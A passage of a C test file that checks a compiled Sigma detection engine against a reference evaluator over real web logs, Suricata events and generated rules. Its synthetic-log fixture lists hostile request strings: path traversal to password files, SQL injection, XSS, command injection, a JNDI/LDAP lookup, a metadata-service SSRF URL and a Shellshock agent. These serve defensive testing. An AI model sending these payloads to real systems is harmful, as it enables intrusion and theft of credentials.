/* test_sigma_compile.c - the compiled Sigma engine (Hyperscan prefilter,
 * sigma_compile.h) against the straight-line reference evaluator.
 *
 * Property: for every rule set and batch, cw_detect_sigma() and
 * cw_detect_sigma_reference() produce the same detections in the same order.
 * Checked on
 *   1. random rules from a generator over the supported modifiers (contains,
 *      startswith, endswith, equals with * and ? wildcards, all, cased, re with
 *      i/m/s, cidr, exists, null, gt/gte/lt/lte, windash, base64offset, fieldref,
 *      keywords, JSON-fallback fields) and random conditions (and / or / not,
 *      1 of / all of, them), whose values are cut from the records themselves so
 *      that they fire often; records: real access-log lines, synthetic lines with
 *      percent-encoding tricks, and real Suricata EVE http events (raw JSON);
 *   2. every real rule of the Sigma snapshot (all three rule trees; the web /
 *      proxy ones are what fires) over every line of the real web logs, and over
 *      the Windows events of regression_data;
 *   3. four threads detecting with one compiled set at once;
 *   4. a rule added after compilation (the compiled form is rebuilt);
 *   5. the literals the prefilter requires of a regex: hand-made cases, and
 *      random regexes, each on a string it matches, contain them.
 * Seed: env CW_SEED (printed on failure). */
#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/buf.h"
#include "detect/sigma_compile.h"
#include "detect/sigma_rule.h"
#include "detect/sigma_ruleset.h"
#include "formats/format.h"
#include "formats/json_docs.h"
#include "testlib.h"

static char fieldmap[4096];
static uint64_t rng_state;

static uint64_t rnd(void)
{
    uint64_t x = rng_state;
    x ^= x << 13;
    x ^= x >> 7;
    x ^= x << 17;
    return rng_state = x;
}

static uint32_t rn(uint32_t n) { return n ? (uint32_t)(rnd() % n) : 0; }

static void init_rs(struct sigma_ruleset *rs)
{
    char err[256];
    int rc = sigma_ruleset_init(rs, fieldmap, err, sizeof(err));
    if (rc)
        fprintf(stderr, "fieldmap: %s\n", err);
    CHECK(rc == 0);
}

/* -- records ----------------------------------------------------------------- */

/* Real access-log lines (CR and ocatak outer quotes removed), LF-joined. */
static void load_weblogs(struct cw_buf *out)
{
    static const char *const files[] = {
        "data/weblogs/elastic-apache_logs.log", "data/weblogs/basjes-hackers-access.log",
        "data/weblogs/ocatak-apache-http-logs/acunetix.txt",
        "data/weblogs/ocatak-apache-http-logs/netsparker.txt",
        "data/weblogs/ocatak-apache-http-logs/w3af.txt"};
    for (size_t f = 0; f < sizeof(files) / sizeof(files[0]); f++) {
        size_t n;
        char *text = cw_test_read_file(cw_test_shared(files[f]), &n);
        CHECK(text != NULL);
        for (char *p = text, *end = text + (text ? n : 0); p < end;) {
            char *nl = memchr(p, '\n', (size_t)(end - p));
            char *le = nl ? nl : end, *next = nl ? nl + 1 : end;
            while (le > p && le[-1] == '\r')
                le--;
            if (le - p >= 2 && p[0] == '"' && le[-1] == '"') {
                p++;
                le--;
            }
            if (le > p) {
                cw_buf_add(out, p, (size_t)(le - p));
                cw_buf_add(out, "\n", 1);
            }
            p = next;
        }
        free(text);
    }
}

/* Real EVE http events, LF-joined. */
static void load_eve_http(struct cw_buf *out, size_t max)
{
    size_t n, k = 0;
    char *text = cw_test_read_gz(cw_test_shared("data/eve/public-pcaps.eve.json.gz"), &n);
    CHECK(text != NULL);
    for (char *p = text, *end = text + (text ? n : 0); p < end && k < max;) {
        char *nl = memchr(p, '\n', (size_t)(end - p));
        char *le = nl ? nl : end;
        if (memmem(p, (size_t)(le - p), "\"event_type\":\"http\"", 19)) {
            cw_buf_add(out, p, (size_t)(le - p));
            cw_buf_add(out, "\n", 1);
            k++;
        }
        p = nl ? nl + 1 : end;
    }
    free(text);
}

static void parse(struct cw_batch *b, const char *fmt, const char *text, size_t n)
{
    struct cw_parse_ctx ctx = {1, 1, 0};
    const struct cw_format *f = cw_format_find(fmt);
    CHECK(f != NULL);
    if (f)
        cw_format_parse_body(f, b, &ctx, text, n, CW_MAX_LINE_DEFAULT, NULL);
}

static const char *const evil[] = {
    "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/%252e%252e%252fwin.ini",
    "/%c0%ae%c0%ae/etc/shadow", "/index.php?id=1'%20or%20'1'='1", "?q=<script>alert(1)</script>",
    "/cgi-bin/.%2e/.%2e/bin/sh", "?x=${jndi:ldap://a.b/c}", "/wp-admin/admin-ajax.php",
    "?cmd=%3Bcat%20%2Fetc%2Fpasswd", "/%u002e%u002e/boot.ini", "?url=http://169.254.169.254/",
    "/api/v1/-enc%20SQBFAFgA", "/shell.jsp?c=whoami", "/.git/config", "?a=%00%ff%41",
    "/AAAA%41%42?B=%2541"};
static const char *const agents[] = {"Mozilla/5.0 (X11; Linux)", "sqlmap/1.7", "curl/8.1",
                                     "python-requests/2.31", "Nikto", "-", "() { :; }; echo",
                                     "Go-http-client/1.1", "${jndi:ldap://x}"};

/* Synthetic combined lines mixing real fragments with encoding tricks. */
static void synth_lines(struct cw_buf *out, uint32_t n)
{
    static const char *const methods[] = {"GET", "POST", "HEAD", "PUT", "OPTIONS"};
    static const int status[] = {200, 301, 400, 403, 404, 500};
    for (uint32_t i = 0; i < n; i++) {
        char line[1024];
        snprintf(line, sizeof(line),
                 "%u.%u.%u.%u - - [10/Oct/2023:13:55:%02u +0000] \"%s %s%s HTTP/1.1\" %d %u "
                 "\"%s\" \"%s\"\n",
                 rn(3) ? 10 : 192, rn(256), rn(4), rn(256), rn(60), methods[rn(5)],
                 evil[rn(sizeof(evil) / sizeof(evil[0]))],
                 rn(2) ? evil[rn(sizeof(evil) / sizeof(evil[0]))] : "", status[rn(6)],
                 rn(100000), rn(3) ? "-" : "http://example.com/%2e%2e/", agents[rn(9)]);
        cw_buf_add(out, line, strlen(line));
    }
}

/* -- rule generator ------------------------------------------------------------ */

static const char *const web_fields[] = {
    "cs-uri-stem", "cs-uri-query", "cs-uri", "c-uri", "cs-method", "sc-status",
    "cs-user-agent", "cs-referer", "cs-host", "cs-version", "sc-bytes",
    "http.hostname", "http.url", "event_type", "dest_port", "http.http_user_agent"};
#define NWEB (sizeof(web_fields) / sizeof(web_fields[0]))

/* A printable piece of a record value: 1..12 bytes. */
static void piece(const struct cw_batch *b, char *out, size_t cap)
{
    for (int tries = 0; tries < 20; tries++) {
        const struct cw_record *r = &b->recs[rn(b->n)];
        const char *s = NULL;
        size_t n = 0;
        if (r->nvals && rn(4)) {
            const struct cw_value *v = &r->vals[rn(r->nvals)];
            if (cw_field_info((enum cw_field_id)v->id)->type != CW_FT_STR)
                continue;
            s = v->v.s;
            n = v->len;
        } else if (r->raw) {
            s = r->raw;
            n = r->raw_len;
        }
        if (!n)
            continue;
        size_t len = 1 + rn(12), off = rn((uint32_t)n);
        if (off + len > n)
            len = n - off;
        size_t k = 0;
        for (size_t i = 0; i < len && k + 1 < cap; i++) {
            unsigned char c = (unsigned char)s[off + i];
            if (c >= 0x20 && c < 0x7f && c != '\\' && c != '*' && c != '?')
                out[k++] = (char)c;
        }
        out[k] = '\0';
        if (k)
            return;
    }
    snprintf(out, cap, "%s", rn(2) ? "/" : "GET");
}

static void adds(struct cw_buf *o, const char *s) { cw_buf_add(o, s, strlen(s)); }

/* YAML single-quoted scalar. */
static void quoted(struct cw_buf *o, const char *s)
{
    cw_buf_add(o, "'", 1);
    for (; *s; s++)
        cw_buf_add(o, *s == '\'' ? "''" : s, 1 + (*s == '\''));
    cw_buf_add(o, "'", 1);
}

/* A glob value: the piece with wildcards sprinkled in. */
static void glob_value(const struct cw_batch *b, char *out, size_t cap)
{
    char p[64];
    piece(b, p, sizeof(p));
    size_t k = 0, n = strlen(p);
    if (rn(5) == 0 && k + 1 < cap)
        out[k++] = '*';
    for (size_t i = 0; i < n && k + 2 < cap; i++) {
        if (rn(12) == 0)
            out[k++] = rn(2) ? '*' : '?';
        out[k++] = p[i];
    }
    if (rn(5) == 0 && k + 1 < cap)
        out[k++] = rn(3) ? '*' : '?';
    out[k] = '\0';
}

static void regex_value(const struct cw_batch *b, char *out, size_t cap)
{
    static const char *const mid[] = {".*", ".", "[a-z0-9]*", "\\d+", "(/|%2f)", "", "\\s?",
                                      "[^&]{0,20}", "(?:x|y)?"};
    char p1[64], p2[64];
    piece(b, p1, sizeof(p1));
    piece(b, p2, sizeof(p2));
    size_t k = 0;
    if (rn(4) == 0)
        out[k++] = '^';
    for (int part = 0; part < 2; part++) {
        const char *p = part ? p2 : p1;
        for (; *p && k + 3 < cap; p++) {
            if (strchr(".^$|()[]{}+", *p))
                out[k++] = '\\';
            out[k++] = *p;
        }
        if (!part) {
            const char *m = mid[rn(sizeof(mid) / sizeof(mid[0]))];
            size_t mn = strlen(m);
            if (k + mn + 1 < cap) {
                memcpy(out + k, m, mn);
                k += mn;
            }
        }
    }
    if (rn(4) == 0 && k + 1 < cap)
        out[k++] = '$';
    out[k] = '\0';
}

/* One test line "field|mods: value(s)" at indent. */
static void gen_test(struct cw_buf *o, const struct cw_batch *b, const char *indent)
{
    const char *f = web_fields[rn(NWEB)];
    char v[160], line[256];
    int kind = (int)rn(20);
    cw_buf_add(o, indent, strlen(indent));
    switch (kind) {
    case 0: /* cidr */
        snprintf(line, sizeof(line), "c-ip|cidr: '%u.%u.0.0/%u'\n", rn(2) ? 10 : 192,
                 rn(2) ? 0 : 168, rn(2) ? 8 : 16);
        cw_buf_add(o, line, strlen(line));
        return;
    case 1:
        snprintf(line, sizeof(line), "%s|exists: %s\n", f, rn(2) ? "true" : "false");
        cw_buf_add(o, line, strlen(line));
        return;
    case 2:
        snprintf(line, sizeof(line), "%s: null\n", f);
        cw_buf_add(o, line, strlen(line));
        return;
    case 3: {
        static const char *const cmp[] = {"gt", "gte", "lt", "lte"};
        snprintf(line, sizeof(line), "%s|%s: %u\n", rn(2) ? "sc-status" : "sc-bytes",
                 cmp[rn(4)], rn(2) ? 300 + rn(200) : rn(10000));
        cw_buf_add(o, line, strlen(line));
        return;
    }
    case 4:
        snprintf(line, sizeof(line), "cs-referer|fieldref|contains: %s\n",
                 rn(2) ? "cs-host" : "cs-uri-stem");
        cw_buf_add(o, line, strlen(line));
        return;
    case 5:
    case 6: { /* regex */
        static const char *const fl[] = {"", "|i", "|m", "|s", "|i|s"};
        regex_value(b, v, sizeof(v));
        snprintf(line, sizeof(line), "%s|re%s: ", f, fl[rn(5)]);
        cw_buf_add(o, line, strlen(line));
        quoted(o, v);
        cw_buf_add(o, "\n", 1);
        return;
    }
    default: break;
    }
    static const char *const mods[] = {"", "|contains", "|startswith", "|endswith",
                                       "|contains|all", "|cased", "|contains|cased",
                                       "|windash|contains", "|base64offset|contains",
                                       "|contains", "|contains"};
    const char *m = mods[rn(sizeof(mods) / sizeof(mods[0]))];
    bool globs = !strstr(m, "base64");
    snprintf(line, sizeof(line), "%s%s:", f, m);
    cw_buf_add(o, line, strlen(line));
    uint32_t nv = rn(3) == 0 ? 2 + rn(3) : 1;
    for (uint32_t i = 0; i < nv; i++) {
        if (globs)
            glob_value(b, v, sizeof(v));
        else
            piece(b, v, sizeof(v));
        if (nv == 1) {
            cw_buf_add(o, " ", 1);
        } else {
            cw_buf_add(o, "\n", 1);
            cw_buf_add(o, indent, strlen(indent));
            cw_buf_add(o, "  - ", 4);
        }
        quoted(o, v);
    }
    cw_buf_add(o, "\n", 1);
}

static void gen_cond(struct cw_buf *o, uint32_t nsel, int depth)
{
    char s[64];
    uint32_t k = rn(depth > 2 ? 3 : 9);
    switch (k) {
    case 0:
    case 1:
    case 2:
        snprintf(s, sizeof(s), "%s%u", rn(3) ? "sel" : "filter", rn(nsel));
        cw_buf_add(o, s, strlen(s));
        return;
    case 3: adds(o, rn(2) ? "1 of sel*" : "all of filter*"); return;
    case 4: adds(o, rn(2) ? "1 of them" : "all of them"); return;
    case 5:
        cw_buf_add(o, "not ", 4);
        gen_cond(o, nsel, depth + 1);
        return;
    default:
        cw_buf_add(o, "(", 1);
        gen_cond(o, nsel, depth + 1);
        adds(o, k == 6 ? " or " : " and ");
        gen_cond(o, nsel, depth + 1);
        cw_buf_add(o, ")", 1);
        return;
    }
}

/* A random rule; selections sel0..selN-1 and filter0..filterN-1 all exist. */
static void gen_rule(struct cw_buf *o, const struct cw_batch *b, uint32_t id)
{
    char h[256];
    snprintf(h, sizeof(h),
             "title: gen %u\nid: 00000000-0000-0000-0000-%012u\nlevel: high\nlogsource:\n"
             "  category: %s\ndetection:\n",
             id, id, rn(3) ? "webserver" : "proxy");
    cw_buf_add(o, h, strlen(h));
    uint32_t nsel = 1 + rn(3);
    for (int pass = 0; pass < 2; pass++) {
        for (uint32_t s = 0; s < nsel; s++) {
            snprintf(h, sizeof(h), "  %s%u:\n", pass ? "filter" : "sel", s);
            cw_buf_add(o, h, strlen(h));
            uint32_t shape = rn(6);
            if (shape == 0) { /* keywords */
                uint32_t nk = 1 + rn(3);
                for (uint32_t k = 0; k < nk; k++) {
                    char v[160];
                    glob_value(b, v, sizeof(v));
                    cw_buf_add(o, "    - ", 6);
                    quoted(o, v);
                    cw_buf_add(o, "\n", 1);
                }
            } else if (shape == 1) { /* list of maps */
                uint32_t ng = 2 + rn(2);
                for (uint32_t g = 0; g < ng; g++) {
                    cw_buf_add(o, "    -\n", 6);
                    uint32_t nt = 1 + rn(2);
                    for (uint32_t t = 0; t < nt; t++)
                        gen_test(o, b, "      ");
                }
            } else {
                uint32_t nt = 1 + rn(3);
                for (uint32_t t = 0; t < nt; t++)
                    gen_test(o, b, "    ");
            }
        }
    }
    cw_buf_add(o, "  condition: ", 13);
    gen_cond(o, nsel, 0);
    cw_buf_add(o, "\n", 1);
}

/* -- comparison -------------------------------------------------------------- */

static int cmp_det(const struct cw_detections *a, const struct cw_detections *b, const char *what)
{
    if (a->n != b->n) {
        fprintf(stderr, "%s: %u compiled detections, %u reference\n", what, a->n, b->n);
        return -1;
    }
    for (uint32_t i = 0; i < a->n; i++)
        if (a->d[i].rec != b->d[i].rec || strcmp(a->d[i].rule_id, b->d[i].rule_id) != 0 ||
            a->d[i].severity != b->d[i].severity || a->d[i].rule_name != b->d[i].rule_name) {
            fprintf(stderr, "%s: detection %u differs: compiled rec %u rule %s, reference rec %u "
                            "rule %s\n",
                    what, i, a->d[i].rec, a->d[i].rule_id, b->d[i].rec, b->d[i].rule_id);
            return -1;
        }
    return 0;
}

/* Both paths on b; returns the number of detections, -1 on mismatch. */
static long compare(const struct sigma_ruleset *rs, const struct cw_batch *b, const char *what)
{
    struct cw_detections x, y;
    cw_detections_init(&x);
    cw_detections_init(&y);
    CHECK(cw_detect_sigma(rs, b, &x) == 0);
    CHECK(cw_detect_sigma_reference(rs, b, &y) == 0);
    long n = cmp_det(&x, &y, what) ? -1 : (long)y.n;
    cw_detections_release(&x);
    cw_detections_release(&y);
    return n;
}

/* On a mismatch: the first (record, rule) where the two paths disagree. */
struct one_hit {
    const struct sigma_entry *e[4096];
    int n;
};

static void collect(void *arg, const struct sigma_entry *e, const struct sigma_why *w)
{
    struct one_hit *h = arg;
    (void)w;
    if (h->n < 4096)
        h->e[h->n++] = e;
}

static void explain(struct sigma_ruleset *rs, const struct cw_batch *b)
{
    char err[256];
    struct sigma_evalctx *c = sigma_evalctx_new();
    if (sigma_ruleset_compile(rs, err, sizeof(err)) || !c)
        return;
    struct sigma_cthread *t = sigma_compiled_acquire(rs->compiled);
    static struct one_hit x, y;
    for (uint32_t i = 0; t && i < b->n; i++) {
        x.n = y.n = 0;
        sigma_compiled_eval(rs->compiled, t, &b->recs[i], collect, &x);
        sigma_ruleset_eval(rs, c, &b->recs[i], collect, &y);
        if (x.n == y.n && !memcmp(x.e, y.e, (size_t)x.n * sizeof(x.e[0])))
            continue;
        for (int k = 0; k < y.n; k++) {
            int j;
            for (j = 0; j < x.n && x.e[j] != y.e[k]; j++)
                ;
            if (j == x.n)
                fprintf(stderr, "record %u: rule %s (%s) fires, compiled path misses it\n"
                                "  record: %.*s\n", i, y.e[k]->rule.id, y.e[k]->rule.title,
                        (int)b->recs[i].raw_len, b->recs[i].raw);
        }
        break;
    }
    sigma_compiled_release(rs->compiled, t);
    sigma_evalctx_free(c);
}

static void test_random(const struct cw_batch *pool)
{
    const int rounds = 60, per_round = 24;
    long total_hits = 0;
    uint32_t loaded = 0, skipped = 0, always = 0, regex = 0;
    for (int round = 0; round < rounds; round++) {
        struct sigma_ruleset rs;
        init_rs(&rs);
        struct cw_buf texts = CW_BUF_INIT;
        for (int i = 0; i < per_round; i++) {
            struct cw_buf o = CW_BUF_INIT;
            gen_rule(&o, pool, (uint32_t)(round * per_round + i));
            int rc = sigma_ruleset_add(&rs, "gen.yml", o.data, o.len);
            CHECK(rc >= 0);
            loaded += rc == 0;
            skipped += rc == 1;
            if (rc == 0) {
                cw_buf_add(&texts, o.data, o.len);
                cw_buf_add(&texts, "---\n", 4);
            }
            cw_buf_release(&o);
        }
        char what[64];
        snprintf(what, sizeof(what), "random round %d (seed state %llu)", round,
                 (unsigned long long)rng_state);
        long n = compare(&rs, pool, what);
        CHECK(n >= 0);
        if (n < 0) {
            explain(&rs, pool);
            fprintf(stderr, "rules of the failing round:\n%.*s\n", (int)texts.len, texts.data);
        } else {
            total_hits += n;
        }
        struct sigma_compiled_stats st;
        if (rs.compiled) {
            CHECK(sigma_compiled_failed(rs.compiled) == NULL);
            sigma_compiled_get_stats(rs.compiled, &st);
            always += st.always;
            regex += st.regex_patterns;
        }
        cw_buf_release(&texts);
        sigma_ruleset_release(&rs);
    }
    printf("random: %d rounds, %u rules loaded (%u refused by the parser), %u always-candidate, "
           "%u prefilter regexes, %ld detections over %u records, compiled == reference\n",
           rounds, loaded, skipped, always, regex, total_hits, pool->n);
    CHECK(loaded > (uint32_t)(rounds * per_round / 2));
    CHECK(total_hits > 1000); /* the generator must produce rules that fire */
}

/* -- real rules ---------------------------------------------------------------- */

static void test_real(const struct cw_batch *web, const struct cw_batch *eve)
{
    static const char *const dirs[] = {"data/sigma/rules", "data/sigma/rules-emerging-threats",
                                       "data/sigma/rules-threat-hunting"};
    struct sigma_ruleset rs;
    char err[512];
    init_rs(&rs);
    for (size_t i = 0; i < 3; i++)
        CHECK(sigma_ruleset_load_dir(&rs, cw_test_shared(dirs[i]), err, sizeof(err)) == 0);
    int crc = sigma_ruleset_compile(&rs, err, sizeof(err));
    if (crc)
        fprintf(stderr, "compile: %s\n", err);
    CHECK(crc == 0);
    struct sigma_compiled_stats st;
    sigma_compiled_get_stats(rs.compiled, &st);
    printf("real rules: %u with a live log source, %u prefiltered, %u always-candidate; %u kinds, "
           "%u databases, %u patterns (%u regex), compiled in %.2f s\n",
           st.rules, st.prefiltered, st.always, st.kinds, st.databases, st.patterns,
           st.regex_patterns, st.compile_seconds);
    long n = compare(&rs, web, "real rules / real web logs");
    CHECK(n > 0);
    if (n < 0)
        explain(&rs, web);
    printf("real rules over %u web-log records: %ld detections, compiled == reference\n", web->n,
           n);
    n = compare(&rs, eve, "real rules / EVE http");
    CHECK(n >= 0);
    printf("real rules over %u EVE http records: %ld detections, compiled == reference\n",
           eve->n, n);

    /* Windows: every regression_data event */
    char list[512];
    snprintf(list, sizeof(list), "find %s -name '*.json' | sort",
             cw_test_shared("data/sigma/regression_data"));
    FILE *p = popen(list, "r");
    char path[4096];
    long wn = 0;
    uint32_t wrecs = 0, files = 0;
    struct cw_batch b;
    cw_batch_init(&b);
    while (p && fgets(path, sizeof(path), p)) { /* records borrow lines: one file at a time */
        path[strcspn(path, "\n")] = '\0';
        size_t len;
        char *text = cw_test_read_file(path, &len);
        struct cw_buf lines = CW_BUF_INIT;
        if (text && cw_json_docs_to_lines(text, len, &lines) >= 0)
            parse(&b, "winevent-json", lines.data, lines.len);
        files++;
        long k = compare(&rs, &b, "real rules / regression events");
        CHECK(k >= 0);
        if (k < 0)
            explain(&rs, &b);
        wn += k;
        wrecs += b.n;
        cw_batch_clear(&b);
        cw_buf_release(&lines);
        free(text);
    }
    if (p)
        pclose(p);
    cw_batch_release(&b);
    printf("real rules over %u Windows events (%u regression files): %ld detections, compiled "
           "== reference\n",
           wrecs, files, wn);
    CHECK(wn > 100);

    /* a rule added after compilation: the compiled form is dropped and rebuilt */
    const char *extra = "title: extra\nid: 99999999-0000-0000-0000-000000000001\nlevel: low\n"
                        "logsource:\n  category: webserver\ndetection:\n  s:\n"
                        "    cs-method: GET\n  condition: s\n";
    CHECK(sigma_ruleset_add(&rs, "extra.yml", extra, strlen(extra)) == 0);
    CHECK(rs.compiled == NULL);
    n = compare(&rs, web, "after sigma_ruleset_add");
    CHECK(n > (long)web->n / 2);
    sigma_ruleset_release(&rs);
}

/* -- threads --------------------------------------------------------------------- */

struct th_arg {
    const struct sigma_ruleset *rs;
    const struct cw_batch *b;
    struct cw_detections want;
    int bad;
};

static void *th_main(void *p)
{
    struct th_arg *a = p;
    for (int k = 0; k < 3; k++) {
        struct cw_detections d;
        cw_detections_init(&d);
        if (cw_detect_sigma(a->rs, a->b, &d) || cmp_det(&d, &a->want, "thread"))
            a->bad++;
        cw_detections_release(&d);
    }
    return NULL;
}

static void test_threads(const struct cw_batch *web)
{
    struct sigma_ruleset rs;
    char err[512];
    init_rs(&rs);
    CHECK(sigma_ruleset_load_dir(&rs, cw_test_shared("data/sigma/rules/web"), err, sizeof(err)) ==
          0);
    struct th_arg a[4];
    pthread_t th[4];
    for (int i = 0; i < 4; i++) {
        a[i].rs = &rs;
        a[i].b = web;
        a[i].bad = 0;
        cw_detections_init(&a[i].want);
        CHECK(cw_detect_sigma_reference(&rs, web, &a[i].want) == 0);
    }
    /* no explicit compile: the threads race to build and publish it */
    for (int i = 0; i < 4; i++)
        CHECK(pthread_create(&th[i], NULL, th_main, &a[i]) == 0);
    int bad = 0;
    for (int i = 0; i < 4; i++) {
        pthread_join(th[i], NULL);
        bad += a[i].bad;
        cw_detections_release(&a[i].want);
    }
    CHECK_EQ_INT(bad, 0);
    printf("threads: 4 x 3 batches on one rule set, compiled == reference\n");
    sigma_ruleset_release(&rs);
}

/* -- regex literal requirements ---------------------------------------------- */

static char lower(char c) { return (char)(c >= 'A' && c <= 'Z' ? c + 32 : c); }

static bool has_ci(const char *hay, size_t hn, const char *lit)
{
    size_t ln = strlen(lit);
    for (size_t i = 0; i + ln <= hn; i++) {
        size_t k = 0;
        while (k < ln && lower(hay[i + k]) == lower(lit[k]))
            k++;
        if (k == ln)
            return true;
    }
    return false;
}

/* Every requirement sigma_regex_requirements gives for re holds on s (or re
 * does not match s). Returns false on a violation. */
static bool reqs_hold(const char *re, const char *s, size_t sn, bool *matched)
{
    int ec;
    PCRE2_SIZE eo;
    pcre2_code *code = pcre2_compile((PCRE2_SPTR)re, PCRE2_ZERO_TERMINATED, 0, &ec, &eo, NULL);
    *matched = false;
    if (!code)
        return true; /* not a regex: nothing to check */
    pcre2_match_data *md = pcre2_match_data_create_from_pattern(code, NULL);
    int rc = pcre2_match(code, (PCRE2_SPTR)s, sn, 0, 0, md, NULL);
    *matched = rc >= 0 || rc != PCRE2_ERROR_NOMATCH; /* a limit hit: not a verdict */
    pcre2_match_data_free(md);
    pcre2_code_free(code);
    if (rc < 0)
        return true;
    static struct sigma_litreq out[8];
    uint32_t n = sigma_regex_requirements(re, strlen(re), out, 8);
    for (uint32_t i = 0; i < n; i++) {
        bool any = false;
        for (uint32_t a = 0; a < out[i].nalts && !any; a++)
            any = has_ci(s, sn, out[i].s[a]);
        if (!any)
            return false;
    }
    return true;
}

/* Requirements as text: "a|b;c" (clauses joined by ';', literals by '|'). */
static void reqs_text(const char *re, char *buf, size_t cap)
{
    static struct sigma_litreq out[8];
    uint32_t n = sigma_regex_requirements(re, strlen(re), out, 8);
    size_t k = 0;
    buf[0] = '\0';
    for (uint32_t i = 0; i < n; i++)
        for (uint32_t a = 0; a < out[i].nalts; a++)
            k += (size_t)snprintf(buf + k, cap - k, "%s%s", a ? "|" : i ? ";" : "", out[i].s[a]);
}

/* A random regex into o and, into m, a string it matches (built alongside). */
static void gen_re(struct cw_buf *o, struct cw_buf *m, int depth)
{
    static const char *const quant[] = {"?", "*", "+", "{2}", "{0,1}", "{1,2}", "{2,}", "+?"};
    static const uint32_t qmin[] = {0, 0, 1, 2, 0, 1, 2, 1}, qmax[] = {1, 2, 2, 2, 1, 2, 3, 2};
    uint32_t items = 1 + rn(7);
    for (uint32_t i = 0; i < items; i++) {
        struct cw_buf piece = CW_BUF_INIT;
        uint32_t k = rn(12);
        if (k < 8) {
            char c = "abcAB"[rn(5)];
            cw_buf_add(o, &c, 1);
            cw_buf_add(&piece, &c, 1);
        } else if (k == 8) {
            bool dot = rn(2);
            adds(o, dot ? "." : "[ab]");
            cw_buf_add(&piece, dot ? &"abc1"[rn(4)] : &"ab"[rn(2)], 1);
        } else if (k == 9) {
            bool dot = rn(2);
            adds(o, dot ? "\\." : "\\d");
            cw_buf_add(&piece, dot ? "." : &"123"[rn(3)], 1);
        } else if (depth < 3) {
            adds(o, rn(3) ? "(" : "(?:");
            uint32_t nb = 1 + (rn(3) == 0) + (rn(4) == 0), pick = rn(nb);
            for (uint32_t br = 0; br < nb; br++) {
                struct cw_buf sub = CW_BUF_INIT;
                if (br)
                    adds(o, "|");
                gen_re(o, &sub, depth + 1);
                if (br == pick)
                    cw_buf_add(&piece, sub.data ? sub.data : "", sub.len);
                cw_buf_release(&sub);
            }
            adds(o, ")");
        } else {
            adds(o, "c");
            adds(&piece, "c");
        }
        uint32_t times = 1;
        if (rn(4) == 0) {
            uint32_t q = rn(8);
            adds(o, quant[q]);
            times = qmin[q] + rn(qmax[q] - qmin[q] + 1);
        }
        for (uint32_t n = 0; n < times; n++)
            cw_buf_add(m, piece.data ? piece.data : "", piece.len);
        cw_buf_release(&piece);
    }
}

static void test_regex_requirements(void)
{
    static const struct {
        const char *re, *want;
    } cases[] = {
        {"ipfs\\.io", "ipfs.io"},
        {"\\?d=[0-9]", "?d="},
        {"(?i)(ipfs\\.io/|ipfs\\.io\\s).+\\..+@.+\\.[a-z]+", "ipfs.io/|ipfs.io"},
        {"\\.(zipx|aspx|html)\\?dd=[0-9]{1,3}", "?dd=;zipx|aspx|html"},
        {"abcd|defgh", "abcd|defgh"},
        {"ab?cdef", "cdef"},
        {"xy+zw", ""},
        {"abcd{2}e", "abcd"},
        {"abcd{0,2}defg", "defg;abc"},
        {"[abc]wxyz\\d", "wxyz"},
        {"a\\x41bcde", ""},
        {"(?=abcd)abcd", ""},
        {"(?:fooo|barr)bazz", "bazz;fooo|barr"},
        {"(fooo)?barx", "barx"},
        {"\\Qabcd\\E", ""},
        {"[\\]]abcd", "abcd"},
        {"[[:alpha:]]wxyz", "wxyz"},
        {"a{,3}bcde", ""},
        {"\xc3\xa9+abcd", "abcd"},
        {"\\\\server", "\\server"},
        {"(?x)a b c d e", ""},
        {"(abcd|defg)fghi|zzzz", "fghi|zzzz"},
        {"(?i)select.+from", "select;from"},
        {"ab", ""}, /* too short to be worth a literal */
        {"x(abc|de)yz", ""},
    };
    char got[1024];
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        reqs_text(cases[i].re, got, sizeof(got));
        if (strcmp(got, cases[i].want))
            fprintf(stderr, "regex %s: requirements '%s', want '%s'\n", cases[i].re, got,
                    cases[i].want);
        CHECK(!strcmp(got, cases[i].want));
    }
    /* soundness on random regexes: each comes with a string it matches (inside
     * random bytes); the requirements must hold there */
    uint32_t matched = 0, with_reqs = 0, bad = 0, nomatch = 0;
    for (int r = 0; r < 20000; r++) {
        struct cw_buf re = CW_BUF_INIT, m = CW_BUF_INIT, subj = CW_BUF_INIT;
        gen_re(&re, &m, 0);
        cw_buf_addc(&re, '\0');
        static struct sigma_litreq out[8];
        if (!sigma_regex_requirements(re.data, strlen(re.data), out, 8)) {
            cw_buf_release(&re);
            cw_buf_release(&m);
            continue;
        }
        with_reqs++;
        for (uint32_t j = rn(4); j; j--)
            cw_buf_add(&subj, &".aB1"[rn(4)], 1);
        cw_buf_add(&subj, m.data ? m.data : "", m.len);
        for (uint32_t j = rn(4); j; j--)
            cw_buf_add(&subj, &".aB1"[rn(4)], 1);
        bool hit;
        const char *sp = subj.data ? subj.data : "";
        if (!reqs_hold(re.data, sp, subj.len, &hit) && ++bad < 5)
            fprintf(stderr, "regex %s matches '%.*s' without its requirements\n", re.data,
                    (int)subj.len, sp);
        matched += hit;
        if (!hit && ++nomatch < 5)
            fprintf(stderr, "generator: regex %s does not match '%.*s'\n", re.data,
                    (int)subj.len, sp);
        cw_buf_release(&re);
        cw_buf_release(&m);
        cw_buf_release(&subj);
    }
    printf("regex requirements: 20000 random regexes, %u with requirements, each checked on "
           "a string it matches (%u did not match: generator)\n", with_reqs, nomatch);
    CHECK_EQ_INT(nomatch, 0);
    CHECK(with_reqs > 1000 && matched == with_reqs);
    CHECK_EQ_INT(bad, 0);
}

/* The compiled path normalises http.path and http.query once and builds the
 * normalised http.url (path '?' query) by joining them (url_normal in
 * sigma_compile.c). That is only right if normalising the joined URL always
 * equals joining the normalised parts: no escape, double escape, %u or overlong
 * sequence may span the '?'. Random URLs over the bytes that matter say so. */
static void test_url_split(void)
{
    static const char alpha[] = {'%', '%', '%', '2', '5', 'e', 'E', 'f', 'F', '0', 'c',
                                 'C', 'a', 'u', 'U', '?', '/', '.', '3', '4', '1',
                                 (char)0xc0, (char)0xc1, (char)0xe0, (char)0x80, (char)0xae,
                                 (char)0xaf, (char)0xbf};
    static char p[2100], q[2100], pq[4200], np[4200], nq[4200], nu[8200], joined[8400];
    uint32_t same = 0, rounds = 50000;
    for (uint32_t r = 0; r < rounds; r++) {
        size_t pn = rn(r % 100 ? 24 : 2048), qn = rn(r % 100 ? 24 : 2047);
        for (size_t i = 0; i < pn; i++)
            p[i] = alpha[rn(sizeof(alpha))];
        for (size_t i = 0; i < qn; i++)
            q[i] = alpha[rn(sizeof(alpha))];
